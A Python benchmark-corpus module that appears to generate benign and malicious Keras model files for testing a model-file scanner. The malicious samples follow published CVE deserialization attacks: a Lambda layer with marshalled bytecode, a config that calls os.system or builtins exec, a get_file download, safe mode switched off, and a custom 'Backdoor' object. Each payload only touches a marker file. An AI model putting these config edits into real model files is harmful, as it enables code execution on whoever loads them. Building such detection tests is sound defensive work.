"""Keras samples: `.keras` archives and legacy `.h5` files, with and without code.

Real models are built and saved by Keras itself (torch backend); malicious variants edit the
saved config the way published attacks do. Nothing is ever loaded back.
"""

from __future__ import annotations

import io
import json
import os
import tempfile
import warnings
import zipfile
from pathlib import Path
from typing import Any

from benchmarks.corpus import benign, technique

_CVE_LAMBDA = "CVE-2024-3660"
_CVE_MODULE = "CVE-2025-1550"


def _keras() -> Any:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Keras and its backend warn about their own APIs
        import keras

    return keras


def _quiet(build: Any) -> Any:
    def run(m: Path) -> bytes:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return build(m)  # type: ignore[no-any-return]

    run.__doc__ = build.__doc__
    return run


def _model(*, with_lambda: bool = False, marker: Path | None = None) -> Any:
    keras = _keras()
    inputs = keras.Input((4,))
    x = keras.layers.Dense(3, activation="relu")(inputs)
    if with_lambda:
        path = str(marker / "verifier-payload-ran") if marker else "/nonexistent"
        # The payload would only create the marker file if the layer ran on a batch of 7
        # (Keras traces the function with other shapes while it builds the model).
        x = keras.layers.Lambda(
            lambda t: (open(path, "w").close(), t)[1] if t.shape[0] == 7 else t,
            name="payload",
        )(x)
    return keras.Model(inputs, keras.layers.Dense(2)(x))


def saved(model: Any, suffix: str) -> bytes:
    """The bytes Keras writes for `model` (`.keras` or legacy `.h5`)."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"model{suffix}"
        model.save(str(path))
        return path.read_bytes()


def edit_keras_config(archive: bytes, edit: Any) -> bytes:
    """A `.keras` archive whose config.json went through `edit(config) -> config`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "config.json":
                data = json.dumps(edit(json.loads(data))).encode()
            target.writestr(info, data)
    return out.getvalue()


def h5_with_config(config: dict[str, Any]) -> bytes:
    """A legacy Keras HDF5 file whose root `model_config` attribute is `config` (Keras 2 style)."""
    import h5py

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.h5"
        with h5py.File(path, "w") as handle:
            handle.attrs["keras_version"] = "2.15.0"
            handle.attrs["backend"] = "tensorflow"
            handle.attrs["model_config"] = json.dumps(config)
            handle.create_group("model_weights")
        return path.read_bytes()


def _first_dense(config: dict[str, Any]) -> dict[str, Any]:
    layers = config["config"]["layers"]
    return next(layer for layer in layers if layer["class_name"] == "Dense")


@technique(
    "keras-lambda-layer",
    family="keras",
    filename="model.keras",
    expect="KERAS-LAMBDA-LAYER",
    advisory=_CVE_LAMBDA,
)
@_quiet
def keras_lambda(m: Path) -> bytes:
    """A .keras archive saved by Keras with a Lambda layer (marshalled bytecode)."""
    return saved(_model(with_lambda=True, marker=m), ".keras")


@technique(
    "keras-h5-lambda-layer",
    family="keras",
    filename="model.h5",
    expect="KERAS-LAMBDA-LAYER",
    advisory=_CVE_LAMBDA,
)
@_quiet
def h5_lambda(m: Path) -> bytes:
    """A legacy .h5 file saved by Keras with a Lambda layer."""
    return saved(_model(with_lambda=True, marker=m), ".h5")


@technique("keras2-h5-lambda", family="keras", filename="model.h5", expect="KERAS-LAMBDA-LAYER")
def keras2_lambda(m: Path) -> bytes:
    """Keras 2 layout: Lambda with base64 marshal in `function`, no `module` keys."""
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": [
                "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAAB8AFMAKQFOqQCpAdoBeHICAAAA",
                None,
                None,
            ],
            "function_type": "lambda",
        },
    }
    return h5_with_config({"class_name": "Sequential", "config": {"layers": [layer]}})


@technique(
    "keras-module-outside-keras",
    family="keras",
    filename="model.keras",
    expect="KERAS-UNSAFE-MODULE",
    advisory=_CVE_MODULE,
)
@_quiet
def module_outside(m: Path) -> bytes:
    """config.json makes Keras import and call `os.system` as an initializer."""

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first_dense(config)["config"]["kernel_initializer"] = {
            "module": "os",
            "class_name": "system",
            "config": {"command": f"touch {m / 'verifier-payload-ran'}"},
            "registered_name": None,
        }
        return config

    return edit_keras_config(saved(_model(), ".keras"), edit)


@technique(
    "keras-function-builtins-exec",
    family="keras",
    filename="model.keras",
    expect="KERAS-UNSAFE-MODULE",
)
@_quiet
def function_exec(m: Path) -> bytes:
    """An activation serialised as a plain function from `builtins` (exec)."""

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first_dense(config)["config"]["activation"] = {
            "module": "builtins",
            "class_name": "function",
            "config": "exec",
            "registered_name": "function",
        }
        return config

    return edit_keras_config(saved(_model(), ".keras"), edit)


@technique(
    "keras-get-file",
    family="keras",
    filename="model.keras",
    expect="KERAS-DANGEROUS-FUNCTION",
    advisory="CVE-2025-8747",
)
@_quiet
def get_file(m: Path) -> bytes:
    """A config entry that calls keras.utils.get_file (downloads and writes files)."""

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first_dense(config)["config"]["kernel_initializer"] = {
            "module": "keras.utils",
            "class_name": "get_file",
            "config": {"fname": str(m / "verifier-payload-ran"), "origin": "http://127.0.0.1:9/"},
            "registered_name": None,
        }
        return config

    return edit_keras_config(saved(_model(), ".keras"), edit)


@technique(
    "keras-enable-unsafe-deserialization",
    family="keras",
    filename="model.keras",
    expect="KERAS-DANGEROUS-FUNCTION",
    advisory="CVE-2025-9906",
)
@_quiet
def unsafe_mode(m: Path) -> bytes:
    """The config turns safe mode off before a Lambda layer is reached."""

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        _first_dense(config)["config"]["bias_initializer"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "function",
        }
        return config

    return edit_keras_config(saved(_model(), ".keras"), edit)


@technique(
    "keras-custom-object", family="keras", filename="model.keras", expect="KERAS-CUSTOM-OBJECT"
)
@_quiet
def custom_object(m: Path) -> bytes:
    """A layer registered as `Custom>Backdoor`: code the archive does not contain."""

    def edit(config: dict[str, Any]) -> dict[str, Any]:
        dense = _first_dense(config)
        dense["module"] = None
        dense["class_name"] = "Backdoor"
        dense["registered_name"] = "Custom>Backdoor"
        return config

    return edit_keras_config(saved(_model(), ".keras"), edit)


@technique(
    "keras-lambda-renamed-archive",
    family="keras",
    filename="weights.bin",
    expect="KERAS-LAMBDA-LAYER",
)
@_quiet
def renamed(m: Path) -> bytes:
    """A .keras archive with a Lambda layer, renamed so nothing hints at Keras."""
    return saved(_model(with_lambda=True, marker=m), ".keras")


@benign("keras-plain-functional", family="keras", filename="model.keras")
@_quiet
def plain_keras(m: Path) -> bytes:
    """A .keras archive of Dense layers, saved by Keras."""
    return saved(_model(), ".keras")


@benign("keras-plain-sequential-h5", family="keras", filename="model.h5")
@_quiet
def plain_h5(m: Path) -> bytes:
    """A legacy .h5 Sequential model of Dense layers, saved by Keras."""
    keras = _keras()
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8), keras.layers.Dense(2)])
    return saved(model, ".h5")


@benign("keras-weights-only-h5", family="keras", filename="model.weights.h5")
@_quiet
def weights_only(m: Path) -> bytes:
    """Weights saved with save_weights: no config at all."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.weights.h5"
        _model().save_weights(str(path))
        return path.read_bytes()
